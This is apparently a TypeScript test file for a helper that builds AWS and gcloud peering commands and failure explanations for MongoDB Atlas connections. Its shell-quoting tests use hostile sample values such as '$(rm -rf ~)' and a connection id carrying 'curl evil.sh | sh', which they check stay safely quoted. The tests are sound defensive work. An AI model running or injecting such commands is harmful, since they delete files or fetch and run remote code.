import * as assert from 'node:assert/strict';
import { parseContainer, parsePeer } from '../../../src/atlas/models';
import { awsAccepterRegion, failureCauses, nextStep, shellQuote } from '../../../src/details/pure/nextStep';
import { readFixture } from './fixtures';

function load(name: string) {
  const f = readFixture(name);
  return { peer: parsePeer(f.peer), container: f.container ? parseContainer(f.container) : undefined, raw: f };
}

describe('details/nextStep', () => {
  describe('shellQuote', () => {
    it('leaves safe values bare', () => {
      assert.equal(shellQuote('pcx-05530fa865e7a44f4'), 'pcx-05530fa865e7a44f4');
      assert.equal(shellQuote('us-east-1'), 'us-east-1');
      assert.equal(shellQuote('p-abcdef0123456789abcdef01'), 'p-abcdef0123456789abcdef01');
    });

    it('single-quotes anything else, escaping single quotes', () => {
      assert.equal(shellQuote('my network'), `'my network'`);
      assert.equal(shellQuote(`a'b`), `'a'\\''b'`);
      assert.equal(shellQuote('$(rm -rf ~)'), `'$(rm -rf ~)'`);
      assert.equal(shellQuote('`id`;x|y&z>w<v'), "'`id`;x|y&z>w<v'");
      assert.equal(shellQuote(''), `''`);
    });

    it("uses $'…' with \\x escapes for control characters", () => {
      assert.equal(shellQuote('a\nb'), `$'a\\x0ab'`);
      assert.equal(shellQuote(`x'\u001b[31m\\`), `$'x\\'\\x1b[31m\\\\'`);
    });
  });

  it('returns nothing for an AVAILABLE connection', () => {
    const { peer, container } = load('aws-available');
    assert.equal(nextStep(peer, container), undefined);
    const azure = load('azure-available');
    assert.equal(nextStep(azure.peer, azure.container), undefined);
  });

  describe('AWS PENDING_ACCEPTANCE', () => {
    it('builds the accept command with the container region in AWS style when accepterRegionName is null', () => {
      const { peer, container } = load('aws-pending-acceptance');
      const step = nextStep(peer, container);
      assert.ok(step);
      assert.equal(step.kind, 'acceptAwsPeering');
      assert.equal(step.severity, 'warning');
      assert.equal(
        step.command,
        'aws ec2 accept-vpc-peering-connection --vpc-peering-connection-id pcx-05530fa865e7a44f4 --region us-east-1',
      );
      assert.deepEqual(step.placeholders, []);
      assert.ok(step.notes.some((n) => n.includes("us-east-1 is the Atlas container's")));
      assert.ok(step.notes.some((n) => n.includes('358363220050')));
      assert.ok(step.notes.some((n) => n.includes('192.168.248.0/21')));
      assert.match(step.text, /vpc-0a1b2c3d4e5f60718/);
    });

    it('prefers accepterRegionName when Atlas returns it', () => {
      const { raw } = load('aws-pending-acceptance');
      const peer = parsePeer({ ...raw.peer, accepterRegionName: 'eu-central-1' });
      const container = parseContainer(raw.container);
      assert.deepEqual(awsAccepterRegion(peer, container), { region: 'eu-central-1', fromContainer: false });
      assert.match(nextStep(peer, container)?.command ?? '', /--region eu-central-1$/);
    });

    it('marks placeholders when the connection id and the region are unknown', () => {
      const { raw } = load('aws-pending-acceptance');
      const peer = parsePeer({ ...raw.peer, connectionId: null });
      const step = nextStep(peer, undefined);
      assert.equal(
        step?.command,
        'aws ec2 accept-vpc-peering-connection --vpc-peering-connection-id <PCX_ID> --region <AWS_REGION>',
      );
      assert.deepEqual(step?.placeholders, ['<PCX_ID>', '<AWS_REGION>']);
      assert.ok(step?.notes.some((n) => /not reported the AWS peering connection id/.test(n)));
      assert.ok(step?.notes.some((n) => /region is unknown/.test(n)));
    });

    it('quotes hostile values so they stay one literal argument', () => {
      const { raw } = load('aws-pending-acceptance');
      const peer = parsePeer({ ...raw.peer, connectionId: 'pcx-1; curl evil.sh | sh', accepterRegionName: "x'y" });
      assert.equal(
        nextStep(peer)?.command,
        `aws ec2 accept-vpc-peering-connection --vpc-peering-connection-id 'pcx-1; curl evil.sh | sh' --region 'x'\\''y'`,
      );
    });
  });

  describe('GCP WAITING_FOR_USER', () => {
    it('builds the reciprocal gcloud command from the peer and the container', () => {
      const { peer, container } = load('gcp-waiting-for-user');
      const step = nextStep(peer, container);
      assert.equal(step?.kind, 'createGcpPeering');
      assert.equal(
        step?.command,
        'gcloud compute networks peerings create atlas-6746d3c4aef48d1cb2659c01 --project=acme-shop-prod --network=shop-vpc' +
          ' --peer-project=p-abcdef0123456789abcdef01 --peer-network=nt-6746cf10aef48d1cb2658ccc-a1b2c3d4',
      );
      assert.deepEqual(step?.placeholders, []);
    });

    it('marks the Atlas project and network as placeholders while the container has no cluster', () => {
      const { peer, container } = load('gcp-waiting-unprovisioned');
      const step = nextStep(peer, container);
      assert.match(step?.command ?? '', /--peer-project=<ATLAS_GCP_PROJECT_ID> --peer-network=<ATLAS_NETWORK_NAME>$/);
      assert.deepEqual(step?.placeholders, ['<ATLAS_GCP_PROJECT_ID>', '<ATLAS_NETWORK_NAME>']);
      assert.ok(step?.notes.some((n) => /null until a cluster exists/.test(n) && /provisioned: no/.test(n)));
    });

    it('says so when the container could not be loaded', () => {
      const { peer } = load('gcp-waiting-for-user');
      const step = nextStep(peer, undefined);
      assert.deepEqual(step?.placeholders, ['<ATLAS_GCP_PROJECT_ID>', '<ATLAS_NETWORK_NAME>']);
      assert.ok(step?.notes.some((n) => /could not be loaded/.test(n)));
    });

    it('uses placeholders for the user side too when Atlas returns nulls', () => {
      const peer = parsePeer({
        providerName: 'GCP',
        containerId: 'c',
        status: 'WAITING_FOR_USER',
        gcpProjectId: null,
        networkName: null,
      });
      const step = nextStep(peer);
      assert.match(
        step?.command ?? '',
        /^gcloud compute networks peerings create atlas-peering --project=<YOUR_GCP_PROJECT_ID> --network=<YOUR_NETWORK_NAME> /,
      );
    });
  });

  describe('FAILED', () => {
    const aws = (errorStateName: string | null) =>
      parsePeer({ providerName: 'AWS', containerId: 'c', statusName: 'FAILED', errorStateName });

    it('explains AWS REJECTED, EXPIRED and INVALID_ARGUMENT', () => {
      assert.match(failureCauses(aws('REJECTED'))[0], /declined in AWS/);
      assert.match(failureCauses(aws('EXPIRED'))[0], /within 7 days/);
      assert.match(failureCauses(aws('INVALID_ARGUMENT'))[0], /account id, VPC id or accepter region/);
      assert.match(failureCauses(aws(null))[0], /Common causes/);
    });

    it('reads the AWS error state from errorMessage-style text too', () => {
      const peer = parsePeer({
        providerName: 'AWS',
        containerId: 'c',
        statusName: 'FAILED',
        errorMessage: 'REJECTED: vpc peering connection request was rejected',
      });
      assert.match(failureCauses(peer)[0], /^REJECTED/);
    });

    it('returns an error step with the Atlas error text', () => {
      const { peer, container } = load('aws-failed-rejected');
      const step = nextStep(peer, container);
      assert.equal(step?.kind, 'failed');
      assert.equal(step?.severity, 'error');
      assert.equal(step?.text, 'Atlas reports: REJECTED');
      assert.equal(step?.command, undefined);
    });

    it('puts overlapping CIDR first for the Azure overlap error, and names the service principal otherwise', () => {
      const overlap = load('azure-failed-overlap');
      const causes = failureCauses(overlap.peer);
      assert.match(causes[0], /^Overlapping CIDR/);
      assert.equal(causes.filter((c) => /^Overlapping CIDR/.test(c)).length, 1);
      const role = parsePeer({
        providerName: 'AZURE',
        containerId: 'c',
        status: 'FAILED',
        errorState: 'Insufficient permissions on the VNet',
      });
      assert.match(failureCauses(role)[0], /service principal.*e90a1407-55c3-432d-9cb1-3638900a9d22/);
    });

    it('explains Azure DELETION_FAILED', () => {
      const peer = parsePeer({ providerName: 'AZURE', containerId: 'c', status: 'DELETION_FAILED', errorState: null });
      const step = nextStep(peer);
      assert.equal(step?.title, 'Atlas could not delete this connection');
      assert.match(step?.notes[0] ?? '', /could not remove the peering/);
    });

    it('explains GCP failures, including a peering deleted on the GCP side', () => {
      const { peer, container } = load('gcp-failed');
      const step = nextStep(peer, container);
      assert.equal(step?.kind, 'failed');
      assert.ok(step?.notes.some((n) => /deleted on the GCP side/.test(n)));
      assert.ok(step?.notes.some((n) => /overlap the Atlas CIDR/.test(n)));
    });
  });

  it('tells the user Atlas is working on in-progress states', () => {
    for (const [provider, field, status] of [
      ['AWS', 'statusName', 'INITIATING'],
      ['AWS', 'statusName', 'FINALIZING'],
      ['AZURE', 'status', 'ADDING_PEER'],
      ['GCP', 'status', 'ADDING_PEER'],
    ] as const) {
      const step = nextStep(parsePeer({ providerName: provider, containerId: 'c', [field]: status }));
      assert.equal(step?.kind, 'inProgress', status);
      assert.equal(step?.title, 'Atlas is working on it');
      assert.match(step?.text ?? '', new RegExp(`${status}.*Watch until settled`));
      assert.equal(step?.severity, 'info');
    }
  });

  it('covers deleting and unknown states', () => {
    assert.equal(
      nextStep(parsePeer({ providerName: 'AWS', containerId: 'c', statusName: 'TERMINATING' }))?.kind,
      'deleting',
    );
    assert.equal(nextStep(parsePeer({ providerName: 'GCP', containerId: 'c', status: 'DELETING' }))?.kind, 'deleting');
    const odd = nextStep(parsePeer({ providerName: 'GCP', containerId: 'c', status: 'SOMETHING_NEW' }));
    assert.equal(odd?.kind, 'unknownStatus');
    assert.match(odd?.text ?? '', /SOMETHING_NEW/);
    assert.match(nextStep(parsePeer({ providerName: 'AWS', containerId: 'c' }))?.text ?? '', /no status/);
  });
});
